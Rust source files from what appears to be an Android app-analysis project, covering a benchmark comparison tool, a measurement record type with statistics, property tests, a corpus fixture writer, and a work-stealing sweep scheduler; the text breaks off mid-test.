    let mut fixtures = Vec::new();
    let mut truth = Vec::new();
    let mut blob_counter = 0usize;
    for app in &corpus {
        let apk_path = apk_dir.join(format!("{}.apk", app.package()));
        fs::write(&apk_path, &app.apk).expect("write apk");

        let mut remote = Vec::new();
        for (domain, path, bytes) in &app.remote_resources {
            let blob = format!("{blob_counter}.bin");
            blob_counter += 1;
            fs::write(fix_dir.join(&blob), bytes).expect("write fixture blob");
            remote.push(serde_json::json!({
                "domain": domain,
                "path": path,
                "file": format!("fixtures/{blob}"),
            }));
        }
        let mut device_files = Vec::new();
        for (path, owner, bytes) in &app.device_files {
            let blob = format!("{blob_counter}.bin");
            blob_counter += 1;
            fs::write(fix_dir.join(&blob), bytes).expect("write fixture blob");
            device_files.push(serde_json::json!({
                "path": path,
                "owner": owner,
                "file": format!("fixtures/{blob}"),
            }));
        }
        if !remote.is_empty() || !device_files.is_empty() {
            fixtures.push(serde_json::json!({
                "package": app.package(),
                "remote": remote,
                "device_files": device_files,
            }));
        }
        truth.push(serde_json::to_value(&app.plan).expect("plan serialises"));
    }

    fs::write(
        out_dir.join("fixtures.json"),
        serde_json::to_string_pretty(&fixtures).expect("serialise"),
    )
    .expect("write fixtures.json");
    fs::write(
        out_dir.join("truth.json"),
        serde_json::to_string_pretty(&truth).expect("serialise"),
    )
    .expect("write truth.json");

    println!(
        "wrote {} apks, {} fixture entries to {}",
        corpus.len(),
        fixtures.len(),
        out_dir.display()
    );
}
