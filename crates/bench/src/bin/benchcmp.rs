//! `benchcmp` — noise-aware diff of two unified measurement records.
//!
//! ```text
//! benchcmp OLD.json NEW.json            # explicit pair
//! benchcmp --history PATH NEW.json      # NEW vs latest same-bench entry
//! benchcmp --trend [--history PATH]     # per-metric median trajectories
//! ```
//!
//! A delta only counts when it clears `max(floor · old_median,
//! k · pooled_stddev)`; which metrics can *gate* — turn the exit code
//! to 1 — is chosen with `--gate` and defaults to machine-independent
//! virtual metrics, so a committed baseline from one host can gate CI
//! runs on another. Exit codes follow the shared convention (also used
//! by `dcltrace check`): 0 clean, 1 finding, 2 usage error.
//!
//! `--trend` switches to the trajectory view: every metric of every
//! bench in the history stream gets one row of medians oldest → newest,
//! its last step judged `improving` / `steady` / `REGRESSING` with the
//! same noise thresholds. The trend view reports, it never gates.

use std::path::Path;
use std::process::ExitCode;

use dydroid_bench::{
    compare, history, ArgParser, CompareConfig, Gate, Measurement, Metric, EXIT_CODE_HELP,
};

const USAGE: &str = "benchcmp [OLD.json] NEW.json [--history PATH] \
[--floor FRACTION] [--k F] [--gate virtual|all|none] [--plant FRACTION] | \
benchcmp --trend [--history PATH]
  OLD.json           baseline record (omit when using --history)
  NEW.json           fresh record to judge
  --history PATH     take the baseline from the latest same-bench entry
                     of this BENCH_history.jsonl stream
  --trend            render per-metric median trajectories over the whole
                     history stream instead of diffing a pair (never gates)
  --floor FRACTION   relative floor below which deltas never count (default 0.05)
  --k F              noise multiplier on the pooled stddev (default 3)
  --gate MODE        which regressions exit 1: virtual (default), all, none
  --plant FRACTION   adversarially shift every NEW metric by this fraction
                     before comparing (demo/test hook for the gating path)";

fn load_record(path: &str, parser: &ArgParser) -> Measurement {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(e) => parser.fail(&format!("cannot read {path}: {e}")),
    };
    match Measurement::parse(&text) {
        Ok(record) => record,
        Err(e) => parser.fail(&format!("{path}: {e}")),
    }
}

/// Shifts every metric the *bad* way by `fraction`: Lower/Steady
/// metrics up, Higher metrics down. Used to demonstrate and test the
/// gating path without editing a record by hand.
fn plant(record: &mut Measurement, fraction: f64) {
    use dydroid_bench::Direction;
    for m in &mut record.metrics {
        let factor = match m.direction {
            Direction::Higher => 1.0 / (1.0 + fraction),
            Direction::Lower | Direction::Steady => 1.0 + fraction,
        };
        let samples: Vec<f64> = m.samples.iter().map(|x| x * factor).collect();
        *m = Metric::new(&m.name, &m.unit, m.direction, m.virtual_metric, samples);
    }
}

fn main() -> ExitCode {
    let mut parser = ArgParser::new(USAGE);
    let mut paths: Vec<String> = Vec::new();
    let mut history_path: Option<String> = None;
    let mut cfg = CompareConfig::default();
    let mut planted: Option<f64> = None;
    let mut trend = false;

    while let Some(arg) = parser.next() {
        match arg.as_str() {
            "--history" => history_path = Some(parser.raw("--history")),
            "--trend" => trend = true,
            "--floor" => cfg.floor = parser.value("--floor", "a fraction (e.g. 0.05)"),
            "--k" => cfg.k = parser.value("--k", "a float"),
            "--gate" => {
                cfg.gate = match parser.raw("--gate").as_str() {
                    "virtual" => Gate::Virtual,
                    "all" => Gate::All,
                    "none" => Gate::None,
                    other => parser.fail(&format!("--gate must be virtual|all|none, got {other}")),
                }
            }
            "--plant" => planted = Some(parser.value("--plant", "a fraction (e.g. 0.20)")),
            "--help" | "-h" => parser.help(),
            flag if flag.starts_with("--") => parser.fail(&format!("unknown flag {flag}")),
            path => paths.push(path.to_string()),
        }
    }

    if trend {
        if !paths.is_empty() {
            parser.fail("--trend reads the history stream; record paths make no sense with it");
        }
        let hist = history_path.unwrap_or_else(|| history::DEFAULT_HISTORY.to_string());
        let records = match history::load(Path::new(&hist)) {
            Ok(records) => records,
            Err(e) => parser.fail(&format!("cannot read history {hist}: {e}")),
        };
        if records.is_empty() {
            println!("benchcmp trend: no records in {hist}");
            return ExitCode::SUCCESS;
        }
        let rows = dydroid_bench::trend_rows(&records, cfg.floor, cfg.k);
        print!("{}", dydroid_bench::trend::render(&hist, &records, &rows));
        return ExitCode::SUCCESS;
    }

    let (old, mut new) = match (history_path, paths.as_slice()) {
        (None, [old_path, new_path]) => (
            load_record(old_path, &parser),
            load_record(new_path, &parser),
        ),
        (Some(hist), [new_path]) => {
            let new = load_record(new_path, &parser);
            let records = match history::load(Path::new(&hist)) {
                Ok(records) => records,
                Err(e) => parser.fail(&format!("cannot read history {hist}: {e}")),
            };
            let Some(old) = history::latest_for(&records, &new.bench, Some(&new)) else {
                parser.fail(&format!(
                    "history {hist} has no prior {:?} entry to compare against",
                    new.bench
                ));
            };
            (old.clone(), new)
        }
        (None, [_]) => parser.fail("one record given: pass OLD.json too, or --history PATH"),
        _ => parser.fail("expected OLD.json NEW.json, or --history PATH NEW.json"),
    };

    if let Some(fraction) = planted {
        eprintln!(
            "benchcmp: planting a {:.1}% adverse shift into the new record",
            fraction * 100.0
        );
        plant(&mut new, fraction);
    }

    let cmp = match compare(&old, &new, &cfg) {
        Ok(cmp) => cmp,
        Err(e) => parser.fail(&e),
    };
    print!("{}", dydroid_bench::compare::render(&old, &new, &cmp));

    let gated = cmp.gated_regressions();
    if gated > 0 {
        eprintln!("benchcmp: FAIL — {gated} gated regression(s)");
        eprintln!("{EXIT_CODE_HELP}");
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    }
}
