//! The unified measurement record every DyDroid bench binary emits.
//!
//! Modeled on rebar's wire measurements (one record per benchmark
//! execution, aggregate statistics over explicit samples, throughput
//! with explicit units) and the exar statistics aggregator (mean /
//! median / stddev per measurement): each `BENCH_*.json` is one
//! [`Measurement`] — a common envelope (bench name, workload, scale,
//! seed, git commit, warmup/iteration discipline, a counters map fed
//! from the telemetry metrics registry) over a list of named
//! [`Metric`]s, with the bench's legacy document nested verbatim under
//! `payload`. The same record, compact-framed, is what each bench
//! appends to `BENCH_history.jsonl` (see [`crate::history`]) and what
//! `benchcmp` diffs with noise-aware thresholds (see
//! [`crate::compare`]).

use std::collections::BTreeMap;
use std::io;
use std::path::Path;

use serde::{Deserialize, Serialize};

/// Schema tag carried by every record, for forward compatibility.
pub const SCHEMA: &str = "dydroid-measurement/v1";

/// Which way a metric is "good": used by `benchcmp` to classify a
/// significant delta as an improvement or a regression.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub enum Direction {
    /// Bigger is better (throughput, speedup).
    Higher,
    /// Smaller is better (wall time, makespan).
    #[default]
    Lower,
    /// The value is an identity that should not move at all (retired
    /// instruction counts, deterministic event totals): a significant
    /// delta in *either* direction is a regression.
    Steady,
}

/// Aggregate statistics over one metric's samples.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct Stats {
    /// Number of samples.
    pub n: usize,
    /// Arithmetic mean.
    pub mean: f64,
    /// Median (p50).
    pub median: f64,
    /// Sample standard deviation (n−1 denominator; 0 for n < 2).
    pub stddev: f64,
    /// Smallest sample.
    pub min: f64,
    /// Largest sample.
    pub max: f64,
    /// 50th percentile (nearest rank).
    pub p50: f64,
    /// 95th percentile (nearest rank).
    pub p95: f64,
    /// 99th percentile (nearest rank).
    pub p99: f64,
}

fn percentile(sorted: &[f64], q: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    // Nearest-rank: the smallest sample covering quantile q.
    let rank = ((q * sorted.len() as f64).ceil() as usize).clamp(1, sorted.len());
    sorted[rank - 1]
}

impl Stats {
    /// Computes the full summary over `samples`.
    pub fn from_samples(samples: &[f64]) -> Stats {
        if samples.is_empty() {
            return Stats::default();
        }
        let n = samples.len();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let stddev = if n < 2 {
            0.0
        } else {
            (samples.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / (n - 1) as f64).sqrt()
        };
        let mut sorted = samples.to_vec();
        sorted.sort_by(|a, b| a.total_cmp(b));
        let median = if n.is_multiple_of(2) {
            (sorted[n / 2 - 1] + sorted[n / 2]) / 2.0
        } else {
            sorted[n / 2]
        };
        Stats {
            n,
            mean,
            median,
            stddev,
            min: sorted[0],
            max: sorted[n - 1],
            p50: percentile(&sorted, 0.50),
            p95: percentile(&sorted, 0.95),
            p99: percentile(&sorted, 0.99),
        }
    }
}

/// One named, unit-carrying series of samples inside a [`Measurement`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Metric {
    /// Metric name, unique within the record ("cached_wall_ms", …).
    pub name: String,
    /// Explicit unit ("ms", "instructions/sec", "ratio", "count").
    pub unit: String,
    /// Which way is good.
    pub direction: Direction,
    /// Machine-independent: derived from the deterministic virtual
    /// clock, retired-instruction counts, or other seed-determined
    /// quantities, so it is meaningful across hosts (including
    /// single-core CI runners). `benchcmp` gates on these by default.
    pub virtual_metric: bool,
    /// The raw samples, in recording order.
    pub samples: Vec<f64>,
    /// Aggregates over `samples`.
    pub stats: Stats,
}

impl Metric {
    /// Builds a metric, computing its aggregate statistics.
    pub fn new(
        name: impl Into<String>,
        unit: impl Into<String>,
        direction: Direction,
        virtual_metric: bool,
        samples: Vec<f64>,
    ) -> Metric {
        let stats = Stats::from_samples(&samples);
        Metric {
            name: name.into(),
            unit: unit.into(),
            direction,
            virtual_metric,
            samples,
            stats,
        }
    }
}

/// The unified record one bench run produces: written pretty to
/// `BENCH_<bench>.json` and appended compact (one framed line) to
/// `BENCH_history.jsonl`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Measurement {
    /// Always [`SCHEMA`].
    pub schema: String,
    /// Bench name ("sweep", "detect", "trace", "avm", "crash").
    pub bench: String,
    /// Workload identifier within the bench ("default", or a shape
    /// string like "f6x4-t120-b120").
    pub workload: String,
    /// Corpus scale knob (0 when the bench has no corpus).
    pub scale: f64,
    /// Deterministic seed driving the run.
    pub seed: u64,
    /// Short git commit hash of the working tree ("unknown" outside a
    /// repo), so history lines map back to the code they measured.
    pub git_commit: String,
    /// Unrecorded warmup rounds before sampling (rebar discipline).
    pub warmup: usize,
    /// Recorded sample rounds.
    pub samples: usize,
    /// Counters fed from the telemetry metrics registry / `SweepStats`
    /// (cache hits, inline-cache hits, steals, shard contention,
    /// recovery counters), keyed by metric name.
    pub counters: BTreeMap<String, u64>,
    /// The named measurements.
    pub metrics: Vec<Metric>,
    /// The bench-specific document (the pre-unification JSON shape),
    /// nested verbatim.
    pub payload: serde::Value,
}

impl Measurement {
    /// Starts an empty record for `bench`, stamping schema and commit.
    pub fn new(bench: &str, workload: &str, scale: f64, seed: u64) -> Measurement {
        Measurement {
            schema: SCHEMA.to_string(),
            bench: bench.to_string(),
            workload: workload.to_string(),
            scale,
            seed,
            git_commit: git_commit(),
            warmup: 0,
            samples: 0,
            counters: BTreeMap::new(),
            metrics: Vec::new(),
            payload: serde::Value::Null,
        }
    }

    /// Adds a metric (computing its statistics).
    pub fn push_metric(
        &mut self,
        name: &str,
        unit: &str,
        direction: Direction,
        virtual_metric: bool,
        samples: Vec<f64>,
    ) {
        self.metrics
            .push(Metric::new(name, unit, direction, virtual_metric, samples));
    }

    /// Looks a metric up by name.
    pub fn metric(&self, name: &str) -> Option<&Metric> {
        self.metrics.iter().find(|m| m.name == name)
    }

    /// Sets one counter.
    pub fn counter(&mut self, name: &str, value: u64) {
        self.counters.insert(name.to_string(), value);
    }

    /// Merges every counter of a telemetry [`MetricsSnapshot`] into the
    /// record (the registry names are kept verbatim).
    pub fn counters_from_snapshot(&mut self, snap: &dydroid::obs::MetricsSnapshot) {
        for (name, value) in snap.counter_map() {
            self.counters.insert(name, value);
        }
    }

    /// Merges the sweep-level counters of a finished run (cache and
    /// inline-cache hit counters, scheduler steals, shard contention,
    /// recovery and durability counters) into the record.
    pub fn counters_from_stats(&mut self, stats: &dydroid::SweepStats) {
        for (name, value) in stats.counter_map() {
            self.counters.insert(name, value);
        }
    }

    /// The compact one-line JSON body framed into `BENCH_history.jsonl`.
    pub fn to_body(&self) -> String {
        self.to_json().to_compact_string()
    }

    /// Parses a record from JSON text (a history line body or a
    /// `BENCH_*.json` file).
    ///
    /// # Errors
    ///
    /// Returns a message when the text is not valid JSON or does not
    /// carry the measurement schema.
    pub fn parse(text: &str) -> Result<Measurement, String> {
        let value: serde::Value =
            serde_json::from_str(text).map_err(|e| format!("invalid JSON: {e}"))?;
        let record = Measurement::from_json(&value).map_err(|e| e.to_string())?;
        if record.schema != SCHEMA {
            return Err(format!(
                "not a {SCHEMA} record (schema = {:?})",
                record.schema
            ));
        }
        Ok(record)
    }

    /// Writes the record pretty-printed to `path`.
    ///
    /// # Errors
    ///
    /// Propagates file-creation and write errors.
    pub fn write_pretty(&self, path: impl AsRef<Path>) -> io::Result<()> {
        std::fs::write(path, self.to_json().to_pretty_string() + "\n")
    }
}

/// Short commit hash of the enclosing git work tree, or "unknown".
pub fn git_commit() -> String {
    std::process::Command::new("git")
        .args(["rev-parse", "--short", "HEAD"])
        .output()
        .ok()
        .filter(|o| o.status.success())
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "unknown".to_string())
}

/// rebar-style sampling discipline: runs `warmup` unrecorded rounds of
/// `round`, then records `samples` rounds and returns their values.
pub fn sample_rounds(samples: usize, warmup: usize, mut round: impl FnMut() -> f64) -> Vec<f64> {
    for _ in 0..warmup {
        round();
    }
    (0..samples).map(|_| round()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stats_match_hand_computed_values() {
        let s = Stats::from_samples(&[4.0, 2.0, 6.0, 8.0]);
        assert_eq!(s.n, 4);
        assert!((s.mean - 5.0).abs() < 1e-12);
        assert!((s.median - 5.0).abs() < 1e-12);
        // Sample stddev of {2,4,6,8} = sqrt(20/3).
        assert!((s.stddev - (20.0f64 / 3.0).sqrt()).abs() < 1e-12);
        assert_eq!(s.min, 2.0);
        assert_eq!(s.max, 8.0);
        assert_eq!(s.p95, 8.0);

        let single = Stats::from_samples(&[7.5]);
        assert_eq!(single.stddev, 0.0);
        assert_eq!(single.median, 7.5);
        assert_eq!(Stats::from_samples(&[]), Stats::default());
    }

    #[test]
    fn record_round_trips_through_json() {
        let mut m = Measurement::new("avm", "default", 0.0, 42);
        m.warmup = 3;
        m.samples = 10;
        m.counter("ic.call_hits", 1234);
        m.push_metric(
            "aggregate_ips",
            "instructions/sec",
            Direction::Higher,
            false,
            vec![1.0e6, 1.1e6, 0.9e6],
        );
        m.push_metric(
            "instructions_retired",
            "count",
            Direction::Steady,
            true,
            vec![5.0e5],
        );
        m.payload = serde_json::json!({"nested": serde_json::json!({"speedup": 5.05})});

        let body = m.to_body();
        let back = Measurement::parse(&body).expect("parse");
        assert_eq!(back, m);
        assert_eq!(back.metric("aggregate_ips").unwrap().stats.n, 3);
        assert!(back.metric("instructions_retired").unwrap().virtual_metric);
        assert_eq!(back.counters.get("ic.call_hits"), Some(&1234));
    }

    #[test]
    fn parse_rejects_foreign_documents() {
        assert!(Measurement::parse("{\"bench\":\"sweep\"}").is_err());
        assert!(Measurement::parse("not json").is_err());
    }

    #[test]
    fn sampling_discipline_runs_warmup_unrecorded() {
        let mut calls = 0u32;
        let out = sample_rounds(3, 2, || {
            calls += 1;
            f64::from(calls)
        });
        assert_eq!(calls, 5);
        // Only the post-warmup rounds are recorded.
        assert_eq!(out, vec![3.0, 4.0, 5.0]);
    }
}
