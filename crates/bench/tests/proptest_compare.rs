//! Property tests for the noise-aware comparator: a perturbation that
//! stays inside the noise band must never read as a regression.

use dydroid_bench::measure::{Direction, Measurement, Metric, Stats};
use dydroid_bench::{compare, CompareConfig, Gate};
use proptest::prelude::*;

const K: f64 = 3.0;

fn record(samples: Vec<f64>, direction: Direction) -> Measurement {
    let mut m = Measurement::new("prop", "default", 0.01, 7);
    m.metrics
        .push(Metric::new("wall_ms", "ms", direction, true, samples));
    m
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Perturbing every sample by less than `0.9·k·s₁/√2` shifts the
    /// median by at most that much, while the pooled stddev stays at
    /// least `s₁/√2` (equal sample counts) — so the shift can never
    /// clear the `k · pooled_stddev` arm of the threshold, in either
    /// direction, for any metric direction.
    #[test]
    fn perturbation_within_noise_band_never_flags(
        base in prop::collection::vec(50.0f64..5000.0, 4..12),
        jitter in prop::collection::vec(-1.0f64..1.0, 12..13),
        steady in any::<bool>(),
    ) {
        let s1 = Stats::from_samples(&base).stddev;
        // A flat sample set has no noise band to stay inside of; the
        // ranges above make that case vanishingly unlikely, but guard it
        // (the shim has no prop_assume — skipping the case is equivalent).
        if s1 <= 1e-9 {
            return Ok(());
        }

        let bound = 0.9 * K * s1 / 2f64.sqrt();
        let perturbed: Vec<f64> = base
            .iter()
            .zip(&jitter)
            .map(|(x, j)| x + j * bound)
            .collect();

        let direction = if steady { Direction::Steady } else { Direction::Lower };
        let cfg = CompareConfig { floor: 0.0, k: K, gate: Gate::All };
        let cmp = compare(
            &record(base.clone(), direction),
            &record(perturbed, direction),
            &cfg,
        )
        .expect("same bench");
        prop_assert_eq!(cmp.regressions(), 0, "noise flagged as regression");
        prop_assert_eq!(cmp.improvements(), 0, "noise flagged as improvement");
    }

    /// A genuine shift far outside the noise band is always caught:
    /// moving every sample by `10·k·s₁` (plus a floor-clearing margin)
    /// flags exactly one verdict, with the sign the direction dictates.
    #[test]
    fn shift_beyond_noise_band_always_flags(
        base in prop::collection::vec(50.0f64..5000.0, 4..12),
        up in any::<bool>(),
    ) {
        let stats = Stats::from_samples(&base);
        let shift = (10.0 * K * stats.stddev + 0.5 * stats.median.abs()).max(1.0);
        let signed = if up { shift } else { -shift };
        let moved: Vec<f64> = base.iter().map(|x| x + signed).collect();

        let cfg = CompareConfig { floor: 0.05, k: K, gate: Gate::All };
        let cmp = compare(
            &record(base.clone(), Direction::Lower),
            &record(moved, Direction::Lower),
            &cfg,
        )
        .expect("same bench");
        if up {
            prop_assert_eq!(cmp.regressions(), 1);
        } else {
            prop_assert_eq!(cmp.improvements(), 1);
        }
    }
}
