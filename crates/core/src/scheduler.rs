//! Work-stealing task scheduler for the corpus sweep.
//!
//! The sweep used to feed every worker from one shared unbounded
//! channel: a single contended queue, no task priorities, and no
//! per-worker accounting. This module replaces it with the classic
//! work-stealing shape: every worker owns a two-lane deque (new work
//! ahead of retry/re-scan work), pops locally while its own deque holds
//! tasks, and steals half of a victim's backlog when it runs dry.
//!
//! All tasks are seeded before the workers start and completed tasks
//! never spawn new ones, so "every deque is empty" is a stable
//! termination condition — a worker that finds nothing anywhere can
//! exit without a rendezvous.
//!
//! The scheduler also owns the sweep's per-worker accounting: tasks
//! executed, steal operations and tasks obtained by stealing, wall
//! *busy* time, and the deterministic virtual cost of the executed apps
//! (see `dydroid_monkey::virtual_us`). The virtual columns are what
//! `sweepbench` builds its machine-independent scaling curve from: the
//! virtual *makespan* — the largest per-worker virtual sum — measures
//! load balance identically on a laptop and a one-core CI container.

use std::collections::VecDeque;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

use serde::{Deserialize, Serialize};

/// Priority lane of one sweep task.
///
/// New work (fresh uploads, never-analysed apps) takes priority over
/// retry/re-scan work (apps invalidated by crash recovery), mirroring
/// an app-store queue where new submissions must not starve behind a
/// re-scan backlog.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lane {
    /// Fresh work: analysed before anything in the retry lane.
    New,
    /// Retry / re-scan work: runs when no new work is available.
    Retry,
}

/// One worker's double-ended task queue, split by priority lane.
#[derive(Debug, Default)]
struct Deque {
    new_lane: VecDeque<usize>,
    retry_lane: VecDeque<usize>,
}

impl Deque {
    fn len(&self) -> usize {
        self.new_lane.len() + self.retry_lane.len()
    }

    fn pop(&mut self) -> Option<(usize, Lane)> {
        if let Some(task) = self.new_lane.pop_front() {
            return Some((task, Lane::New));
        }
        self.retry_lane.pop_front().map(|t| (t, Lane::Retry))
    }

    fn push_back(&mut self, task: usize, lane: Lane) {
        match lane {
            Lane::New => self.new_lane.push_back(task),
            Lane::Retry => self.retry_lane.push_back(task),
        }
    }
}

/// Monotonic per-worker counters, updated by the owning worker and read
/// once at sweep end.
#[derive(Debug, Default)]
struct WorkerCounters {
    executed: AtomicU64,
    steals: AtomicU64,
    stolen_tasks: AtomicU64,
    busy_us: AtomicU64,
    virtual_us: AtomicU64,
}

/// Final per-worker accounting of one sweep, surfaced in
/// [`crate::SweepStats`] and `render_perf`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct WorkerStats {
    /// Tasks this worker executed.
    pub executed: u64,
    /// Steal operations this worker performed (each may move several
    /// tasks).
    pub steals: u64,
    /// Tasks this worker obtained by stealing.
    pub stolen_tasks: u64,
    /// Wall time this worker spent executing tasks, in microseconds.
    pub busy_us: u64,
    /// Deterministic virtual cost of the tasks this worker executed, in
    /// microseconds. The maximum over workers is the sweep's virtual
    /// makespan.
    pub virtual_us: u64,
}

/// A work-stealing scheduler over `usize` task ids (corpus indices).
///
/// Seed every task with [`Scheduler::seed`] before spawning workers,
/// then have each worker loop on [`Scheduler::next_task`] until it
/// returns `None`.
#[derive(Debug)]
pub struct Scheduler {
    deques: Vec<Mutex<Deque>>,
    counters: Vec<WorkerCounters>,
}

impl Scheduler {
    /// A scheduler for `workers` workers (at least one).
    pub fn new(workers: usize) -> Self {
        let workers = workers.max(1);
        Scheduler {
            deques: (0..workers).map(|_| Mutex::new(Deque::default())).collect(),
            counters: (0..workers).map(|_| WorkerCounters::default()).collect(),
        }
    }

    /// Number of worker deques.
    pub fn workers(&self) -> usize {
        self.deques.len()
    }

    /// Seeds `task` onto `worker`'s deque in the given lane. Call before
    /// the workers start; seeding after a worker has observed every
    /// deque empty would be lost.
    pub fn seed(&self, worker: usize, task: usize, lane: Lane) {
        self.deques[worker % self.deques.len()]
            .lock()
            .expect("scheduler deque poisoned")
            .push_back(task, lane);
    }

    /// Pops the next task for `worker`: its own new lane first, then its
    /// own retry lane, then — when its deque is dry — steals half of the
    /// fullest backlog among the other workers. Returns `None` only when
    /// every deque is empty, which (with up-front seeding) means the
    /// sweep is out of work.
    pub fn next_task(&self, worker: usize) -> Option<usize> {
        let own = &self.deques[worker];
        if let Some((task, _)) = own.lock().expect("scheduler deque poisoned").pop() {
            return Some(task);
        }
        self.steal_into(worker)
    }

    /// Steal-half from a victim deque into `worker`'s own, returning the
    /// first stolen task. Victims are scanned round-robin from
    /// `worker + 1`; the transfer preserves lane priority (new-lane
    /// tasks move first and stay in the new lane).
    fn steal_into(&self, worker: usize) -> Option<usize> {
        let n = self.deques.len();
        loop {
            let mut skipped_busy = false;
            for offset in 1..n {
                let victim = (worker + offset) % n;
                let mut moved: VecDeque<(usize, Lane)> = VecDeque::new();
                {
                    let mut victim_deque = match self.deques[victim].try_lock() {
                        Ok(guard) => guard,
                        // A busy victim is skipped this pass rather than
                        // waited on; the scan comes back around to it.
                        Err(std::sync::TryLockError::WouldBlock) => {
                            skipped_busy = true;
                            continue;
                        }
                        Err(std::sync::TryLockError::Poisoned(p)) => p.into_inner(),
                    };
                    let take = victim_deque.len().div_ceil(2);
                    for _ in 0..take {
                        let Some((task, lane)) = victim_deque.pop() else {
                            break;
                        };
                        moved.push_back((task, lane));
                    }
                }
                if moved.is_empty() {
                    continue;
                }
                let counters = &self.counters[worker];
                counters.steals.fetch_add(1, Ordering::Relaxed);
                counters
                    .stolen_tasks
                    .fetch_add(moved.len() as u64, Ordering::Relaxed);
                let (first, _) = moved.pop_front().expect("non-empty steal");
                let mut own = self.deques[worker]
                    .lock()
                    .expect("scheduler deque poisoned");
                for (task, lane) in moved {
                    own.push_back(task, lane);
                }
                return Some(first);
            }
            if !skipped_busy {
                // Every deque was observed empty (and none skipped), and
                // tasks are only seeded up front: the sweep is drained.
                return None;
            }
            // A victim was mid-operation; yield and rescan rather than
            // declaring the sweep done with work possibly outstanding.
            std::thread::yield_now();
            if let Some((task, _)) = self.deques[worker]
                .lock()
                .expect("scheduler deque poisoned")
                .pop()
            {
                return Some(task);
            }
        }
    }

    /// Charges one executed task to `worker`'s counters.
    pub fn note_executed(&self, worker: usize, busy_us: u64, virtual_us: u64) {
        let counters = &self.counters[worker];
        counters.executed.fetch_add(1, Ordering::Relaxed);
        counters.busy_us.fetch_add(busy_us, Ordering::Relaxed);
        counters.virtual_us.fetch_add(virtual_us, Ordering::Relaxed);
    }

    /// Final per-worker statistics, one entry per worker.
    pub fn worker_stats(&self) -> Vec<WorkerStats> {
        self.counters
            .iter()
            .map(|c| WorkerStats {
                executed: c.executed.load(Ordering::Relaxed),
                steals: c.steals.load(Ordering::Relaxed),
                stolen_tasks: c.stolen_tasks.load(Ordering::Relaxed),
                busy_us: c.busy_us.load(Ordering::Relaxed),
                virtual_us: c.virtual_us.load(Ordering::Relaxed),
            })
            .collect()
    }
}

/// Virtual makespan of a sweep: the largest per-worker virtual-cost sum.
/// This is the quantity a perfectly balanced `w`-worker sweep divides by
/// `w`; `sweepbench` reports `makespan(1) / makespan(w)` as the
/// machine-independent scaling factor.
pub fn virtual_makespan_us(stats: &[WorkerStats]) -> u64 {
    stats.iter().map(|s| s.virtual_us).max().unwrap_or(0)
}

/// Workers that executed nothing while the sweep held enough work to go
/// around (at least two tasks per worker on average) — a wedged or
/// starved worker, not a short sweep. The observatory's stall section
/// reports these.
pub fn idle_workers(stats: &[WorkerStats]) -> usize {
    let total: u64 = stats.iter().map(|s| s.executed).sum();
    if stats.len() < 2 || total < 2 * stats.len() as u64 {
        return 0;
    }
    stats.iter().filter(|s| s.executed == 0).count()
}

/// Parallel balance of a sweep on the virtual clock: total virtual time
/// over `workers × makespan`. `1.0` is perfect balance; it approaches
/// `1/workers` when one worker carried the whole sweep (steal-
/// imbalance, a straggler pinning a worker, or a contended queue).
pub fn parallel_balance(stats: &[WorkerStats]) -> f64 {
    let makespan = virtual_makespan_us(stats);
    if stats.is_empty() || makespan == 0 {
        return 1.0;
    }
    let total: u64 = stats.iter().map(|s| s.virtual_us).sum();
    total as f64 / (stats.len() as f64 * makespan as f64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn drains_all_seeded_tasks_exactly_once() {
        let scheduler = Scheduler::new(3);
        for task in 0..100 {
            scheduler.seed(task % 3, task, Lane::New);
        }
        let mut seen = HashSet::new();
        for worker in [0usize, 0, 1, 2, 0, 1] {
            while let Some(task) = scheduler.next_task(worker) {
                assert!(seen.insert(task), "task {task} dispatched twice");
                if seen.len() % 10 == 0 {
                    break; // rotate workers mid-drain
                }
            }
        }
        // Finish whatever is left from any worker.
        while let Some(task) = scheduler.next_task(1) {
            assert!(seen.insert(task), "task {task} dispatched twice");
        }
        assert_eq!(seen.len(), 100);
        assert!(scheduler.next_task(0).is_none());
    }

    #[test]
    fn new_lane_preempts_retry_lane() {
        let scheduler = Scheduler::new(1);
        scheduler.seed(0, 7, Lane::Retry);
        scheduler.seed(0, 1, Lane::New);
        scheduler.seed(0, 8, Lane::Retry);
        scheduler.seed(0, 2, Lane::New);
        assert_eq!(scheduler.next_task(0), Some(1));
        assert_eq!(scheduler.next_task(0), Some(2));
        assert_eq!(scheduler.next_task(0), Some(7));
        assert_eq!(scheduler.next_task(0), Some(8));
        assert_eq!(scheduler.next_task(0), None);
    }

    #[test]
    fn idle_worker_steals_half_of_a_backlog() {
        let scheduler = Scheduler::new(2);
        for task in 0..10 {
            scheduler.seed(0, task, Lane::New);
        }
        // Worker 1 has nothing of its own: it must steal from worker 0.
        let got = scheduler.next_task(1).expect("steal succeeds");
        let stats = scheduler.worker_stats();
        assert_eq!(stats[1].steals, 1);
        assert_eq!(stats[1].stolen_tasks, 5, "steal-half moves ceil(10/2)");
        // The stolen batch now sits on worker 1's own deque.
        let mut worker1 = vec![got];
        for _ in 0..4 {
            worker1.push(scheduler.next_task(1).expect("own deque"));
        }
        assert_eq!(scheduler.worker_stats()[1].steals, 1, "no further steals");
        let mut worker0 = Vec::new();
        while let Some(t) = scheduler.next_task(0) {
            worker0.push(t);
        }
        let all: HashSet<usize> = worker1.iter().chain(&worker0).copied().collect();
        assert_eq!(all.len(), 10);
    }

    #[test]
    fn stealing_preserves_lane_priority() {
        let scheduler = Scheduler::new(2);
